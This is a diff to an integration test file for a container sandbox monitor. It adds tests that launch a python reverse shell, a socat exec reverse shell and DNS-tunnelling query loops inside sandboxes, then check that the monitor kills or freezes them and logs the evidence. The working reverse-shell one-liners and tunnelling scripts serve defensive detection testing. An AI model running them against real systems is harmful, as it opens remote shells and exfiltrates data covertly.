@@ -12,7 +12,9 @@
  *
  * Tested reverse shells: bash /dev/tcp one-liner, a copy of sh renamed
  * `update-check` (behaviour only), perl (perl-base is in coi-base), busybox
- * nc -e. python3 and socat are not in coi-base, so not tested here.
+ * nc -e; and, on the agent image `coi` (python3, socat, npm, dig), python
+ * and socat exec. Also there: DNS tunnelling through the container's own
+ * resolver, and a benign npm workload from a local tarball.
  */
 import { strict as assert } from 'node:assert';
 import { ChildProcess, spawn, spawnSync } from 'node:child_process';
@@ -22,6 +24,7 @@ import * as path from 'node:path';
 import { after, before, describe, test } from 'node:test';
 import { GuardClient } from '../../helper/guard/client';
 import { auditLocation } from '../../helper/guard/monitor/audit-location';
+import { findContainerCgroup, listCgroupPids } from '../../helper/guard/monitor/collector';
 import { readFreezer, writeFreezer } from '../../helper/host/freezer';
 import type { IncusClient } from '../../helper/incus/client';
 import type { GuardEvent, ThreatEventWire, ThreatRecord } from '../../helper/protocol/methods';
@@ -48,8 +51,8 @@ const accepted = new Map<number, number>(); // port → time of the first accept
 const measured: string[] = [];
 
 /** Two configurations: the default (monitoring on), and one that keeps a forensic copy (persistent, so no other guard's reaper races the copy). */
-const homes = { main: path.join(root, 'home'), forensics: path.join(root, 'home-forensics') };
-const config = (extra = '') => `[container]\nimage = "coi-base"\n${extra}\n[tool]\nname = "shell"\n\n[monitoring]\nenabled = true\n${extra.includes('persistent') ? 'forensics_on_kill = true\n' : ''}\n[limits.runtime]\nmax_processes = 500\n`;
+const homes = { main: path.join(root, 'home'), forensics: path.join(root, 'home-forensics'), agent: path.join(root, 'home-agent') };
+const config = (extra = '', image = 'coi-base') => `[container]\nimage = "${image}"\n${extra}\n[tool]\nname = "shell"\n\n[monitoring]\nenabled = true\n${extra.includes('persistent') ? 'forensics_on_kill = true\n' : ''}\n[limits.runtime]\nmax_processes = 500\n`;
 
 function startGuard(): ChildProcess {
   const fd = openSync(guardLog, 'a');
@@ -60,7 +63,7 @@ function startGuard(): ChildProcess {
   return g;
 }
 
-/** One process in the dead-end namespace listening on the attack ports; a line per accepted connection; gone after 230 s. */
+/** One process in the dead-end namespace listening on the attack ports; a line per accepted connection; gone after 600 s (the file runs 4-5 minutes; after() kills it sooner). */
 function startListener(ports: number[]): Promise<void> {
   const script = `
     const net = require('net');
@@ -75,7 +78,7 @@ function startListener(ports: number[]): Promise<void> {
       });
       srv.listen(port, ${JSON.stringify(TARGET)}, () => { if (++up === ${ports.length}) console.log(JSON.stringify({ ready: true })); });
     }
-    setTimeout(() => { for (const s of socks) s.destroy(); process.exit(0); }, 230000);`;
+    setTimeout(() => { for (const s of socks) s.destroy(); process.exit(0); }, 600000);`;
   listener = spawn('ip', ['netns', 'exec', SETUP_NAMES.deadEndNamespace, process.execPath, '-e', script], { stdio: ['ignore', 'pipe', 'inherit'] });
   return new Promise((resolve, reject) => {
     let buf = '';
@@ -146,6 +149,20 @@ function tail(file: string, n: number): string {
   }
 }
 
+/** The container's processes, from its cgroup on the host (works while it is frozen). */
+function containerPids(name: string): number[] {
+  const dir = findContainerCgroup(name);
+  return dir ? listCgroupPids([dir]).pids : [];
+}
+
+function cmdlineOf(pid: number): string {
+  try {
+    return readFileSync(`/proc/${pid}/cmdline`, 'utf8').replace(/\0$/, '');
+  } catch {
+    return '';
+  }
+}
+
 const auditFile = (name: string) => path.join(auditLocation(0).dir, `${name}.jsonl`);
 
 function auditLines(name: string): { records: ThreatRecord[]; bad: number } {
@@ -191,9 +208,9 @@ before(async () => {
   c = await requireIncus();
   for (const [k, h] of Object.entries(homes)) {
     mkdirSync(path.join(h, '.coi'), { recursive: true });
-    writeFileSync(path.join(h, '.coi', 'config.toml'), config(k === 'forensics' ? 'persistent = true\n' : ''));
+    writeFileSync(path.join(h, '.coi', 'config.toml'), config(k === 'forensics' ? 'persistent = true\n' : '', k === 'agent' ? 'coi' : 'coi-base'));
   }
-  await startListener([0, 1, 2, 3, 4].map((i) => PORT0 + i));
+  await startListener([0, 1, 2, 3, 4, 5, 6].map((i) => PORT0 + i));
   guard = startGuard();
   client = new GuardClient({ socketPath, reconnect: true });
   client.on('event', (e: GuardEvent) => {
@@ -337,8 +354,10 @@ describe('the monitor in the guard', () => {
     measured.push(`200 MB read: detect → cgroup frozen ${high.response?.containMs} ms (${high.description.slice(0, 100)})`);
     // What a person does before resuming: end the offending command (SIGKILL waits for the thaw;
     // nothing of it runs again). Left running, the rest of the read would be frozen again.
-    const reader = high.evidence.process?.pid;
-    assert.ok(reader, 'the reader is named');
+    // The finding names the reader when one process did it all within a window; under load the
+    // reads straddle windows and the container's total is what crossed the line: find it from the host.
+    const reader = high.evidence.process?.pid ?? containerPids(name).find((pid) => cmdlineOf(pid) === 'cat\0/workspace/big.bin');
+    assert.ok(reader, `the reader is named or found: ${high.description}`);
     process.kill(reader, 'SIGKILL');
     const r = await coi(['resume', name], { HOME: homes.main, COI_CONTAINER_PREFIX: PREFIX });
     assert.equal(r.code, 0, r.stderr);
@@ -437,5 +456,118 @@ describe('the monitor in the guard', () => {
     const lost = threatsOf(name).filter((r) => !ids.has(r.id));
     assert.deepEqual(lost.map((r) => r.title), [], 'every pushed event is in the audit log');
     assert.equal(records.filter((r) => r.title === 'Monitoring started').length, 2, 'started by each guard');
+  });
+});
+
+describe('the monitor on the agent image (python3, socat, npm, dig)', () => {
+  const names: Record<string, string> = {};
+
+  test('agent image: sandboxes of the image coi are watched', async () => {
+    const list = ['python', 'socat', 'npm', 'dns'];
+    const launched = await Promise.all(list.map((k) => launch(path.join(root, `ws-agent-${k}`), homes.agent)));
+    list.forEach((k, i) => (names[k] = launched[i]!));
+    for (const n of Object.values(names)) {
+      assert.match((await c.getInstance(n)).config['user.coi.image'] ?? '', /^coi($|[^-])/, 'made from the agent image');
+      await waitFor(`${n} to be watched`, () => threatsOf(n).find((r) => r.title === 'Monitoring started'), 20_000);
+    }
+  });
+
+  test('agent image: a benign workload (npm pack and install of a local tarball, a build, a test run, git) raises nothing above INFO', async () => {
+    const name = names.npm!;
+    const ws = path.join(root, 'ws-agent-npm');
+    mkdirSync(path.join(ws, 'tiny'), { recursive: true });
+    mkdirSync(path.join(ws, 'app'), { recursive: true });
+    writeFileSync(path.join(ws, 'tiny', 'package.json'), JSON.stringify({ name: 'tiny', version: '1.0.0', main: 'index.js', license: 'MIT' }));
+    writeFileSync(path.join(ws, 'tiny', 'index.js'), 'module.exports = (s) => String(s).toUpperCase();\n');
+    writeFileSync(path.join(ws, 'app', 'package.json'), JSON.stringify({ name: 'app', version: '1.0.0', private: true, scripts: { build: 'node build.js', test: 'node test.js' } }));
+    writeFileSync(path.join(ws, 'app', 'build.js'), "const fs = require('fs');\nconst up = require('tiny');\nfs.mkdirSync('dist', { recursive: true });\nfor (let i = 0; i < 50; i++) fs.writeFileSync(`dist/m${i}.txt`, up(`module ${i}\\n`).repeat(100));\n");
+    writeFileSync(path.join(ws, 'app', 'test.js'), "const assert = require('assert');\nconst fs = require('fs');\nassert.equal(require('tiny')('ok'), 'OK');\nassert.equal(fs.readdirSync('dist').length, 50);\nconsole.log('tests pass');\n");
+    writeFileSync(
+      path.join(ws, 'work.sh'),
+      [
+        'set -e',
+        'cd /workspace',
+        // No registry: the install is from the tarball alone, and a stray request goes nowhere.
+        'export npm_config_registry=http://127.0.0.1:9/ npm_config_offline=true npm_config_audit=false npm_config_fund=false npm_config_update_notifier=false',
+        'export GIT_AUTHOR_NAME=agent GIT_AUTHOR_EMAIL=a@example.invalid GIT_COMMITTER_NAME=agent GIT_COMMITTER_EMAIL=a@example.invalid',
+        '(cd tiny && npm pack --pack-destination /workspace)',
+        'cd app',
+        'npm install ../tiny-1.0.0.tgz',
+        'test -f node_modules/tiny/index.js',
+        'for round in 1 2; do npm run build; npm test; done',
+        'git init -q -b main . && git add -A && git commit -qm initial && git log --oneline > /dev/null && git status --short > /dev/null',
+      ].join('\n'),
+    );
+    await type(name, 'sh /workspace/work.sh > /workspace/work.log 2>&1; echo $? > /workspace/work.exit');
+    const exit = await waitFor('the npm workload to finish', () => (existsSync(path.join(ws, 'work.exit')) ? readFileSync(path.join(ws, 'work.exit'), 'utf8').trim() || undefined : undefined), 120_000, 200);
+    const log = readFileSync(path.join(ws, 'work.log'), 'utf8');
+    assert.equal(exit, '0', log);
+    assert.match(log, /tests pass/);
+    assert.ok(existsSync(path.join(ws, 'app', 'node_modules', 'tiny', 'package.json')), 'tiny was installed from the tarball');
+    await sleep(1_500);
+    const above = threatsOf(name).filter((r) => r.level !== 'info');
+    assert.deepEqual(above.map((r) => `${r.level} ${r.title}: ${r.description}`), [], 'nothing above INFO');
+    assert.equal(readFreezer(name), 'thawed');
+  });
+
+  test('agent image: a python reverse shell is killed; the line has the remote address and the chain', async () => {
+    const name = names.python!;
+    const port = PORT0 + 5;
+    // Its errors before the dup2 (a refused connect, say) land in the workspace, for a failure's message.
+    await type(name, `python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("${TARGET}",${port}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])' 2> /workspace/py.err`);
+    const crit = await expectKilled('python', name, port).catch((e: Error) => {
+      const err = path.join(root, 'ws-agent-python', 'py.err');
+      throw new Error(`${e.message}\n--- python's stderr: ${existsSync(err) ? readFileSync(err, 'utf8') : '(none: it did not run)'}; listener saw the port: ${accepted.has(port)}`);
+    });
+    assert.equal(crit.evidence.network?.remote, TARGET);
+    assert.equal(crit.evidence.network?.port, port);
+    const chain = crit.evidence.process?.lineage ?? [];
+    assert.ok(chain.some((l) => l.comm === 'bash') && chain.some((l) => l.comm.startsWith('tmux')), `the chain reaches the agent's shell and tmux: ${JSON.stringify(chain)}`);
+    assert.ok(auditLines(name).records.some((r) => r.id === crit.id), 'the pushed threat is the audit line');
+  });
+
+  test('agent image: a socat exec reverse shell is killed; the line has the remote address and the chain', async () => {
+    const name = names.socat!;
+    const port = PORT0 + 6;
+    await type(name, `socat tcp-connect:${TARGET}:${port} exec:'/bin/sh -i',pty,stderr,setsid`);
+    const crit = await expectKilled('socat exec', name, port);
+    assert.equal(crit.evidence.network?.remote, TARGET);
+    assert.equal(crit.evidence.network?.port, port);
+    const chain = crit.evidence.process?.lineage ?? [];
+    assert.ok(chain.some((l) => l.comm === 'socat' || l.comm === 'sh'), `socat or its shell is named: ${JSON.stringify(chain)}`);
+    assert.ok(chain.some((l) => l.comm === 'bash'), `the chain reaches the agent's shell: ${JSON.stringify(chain)}`);
+    assert.ok(auditLines(name).records.some((r) => r.id === crit.id), 'the pushed threat is the audit line');
+  });
+
+  test('agent image: DNS queries through the container\'s resolver with long random labels, then long names, are HIGH and freeze it', async () => {
+    const name = names.dns!;
+    const ws = path.join(root, 'ws-agent-dns');
+    const rand = (n: number) => `$(head -c 64 /dev/urandom | base32 -w0 | tr -d = | tr A-Z a-z | cut -c1-${n})`;
+    // The resolver of /etc/resolv.conf (the bridge's), as any tunnel tool would use; its answer does not matter.
+    writeFileSync(path.join(ws, 'label.sh'), `for i in 1 2 3 4; do dig +tries=1 +time=1 "${rand(60)}.$i.t.example.com" > /dev/null; done; touch /workspace/label.done\n`);
+    writeFileSync(path.join(ws, 'long.sh'), `for i in 1 2 3 4; do dig +tries=1 +time=1 "${rand(30)}.${rand(30)}.${rand(30)}.${rand(30)}.$i.t.example.com" > /dev/null; done; touch /workspace/long.done\n`);
+
+    const before1 = Date.now();
+    await type(name, 'sh /workspace/label.sh');
+    const label = await waitFor('a HIGH for the long labels', () => threatsOf(name).find((r) => r.category === 'dns_tunnel' && Date.parse(r.timestamp) >= before1 - 1_000), 20_000);
+    assert.equal(label.level, 'high');
+    assert.equal(label.evidence.rule, 'dns-tunnel/long-first-label');
+    assert.equal(label.action, 'paused');
+    assert.ok(['frozen', 'freezing'].includes(readFreezer(name) ?? ''), 'the cgroup is frozen');
+    assert.ok(label.evidence.network?.remote, 'the resolver is named');
+    assert.ok(auditLines(name).records.some((r) => r.id === label.id), 'in the audit log');
+    measured.push(`DNS long labels: first query sent ≤ ${Date.parse(label.timestamp) - before1} ms before the HIGH (${label.description})`);
+
+    const r = await coi(['resume', name], { HOME: homes.agent, COI_CONTAINER_PREFIX: PREFIX });
+    assert.equal(r.code, 0, r.stderr);
+    await waitFor('the first loop to finish', () => (existsSync(path.join(ws, 'label.done')) ? true : undefined), 30_000, 200);
+
+    const before2 = Date.now();
+    await type(name, 'sh /workspace/long.sh');
+    const long = await waitFor('a HIGH for the long names', () => threatsOf(name).find((x) => x.category === 'dns_tunnel' && x.evidence.rule === 'dns-tunnel/long-query'), 20_000);
+    assert.ok(Date.parse(long.timestamp) >= before2 - 1_000);
+    assert.equal(long.level, 'high');
+    assert.equal(long.action, 'paused');
+    assert.ok(['frozen', 'freezing'].includes(readFreezer(name) ?? ''), 'frozen again');
   });
 });
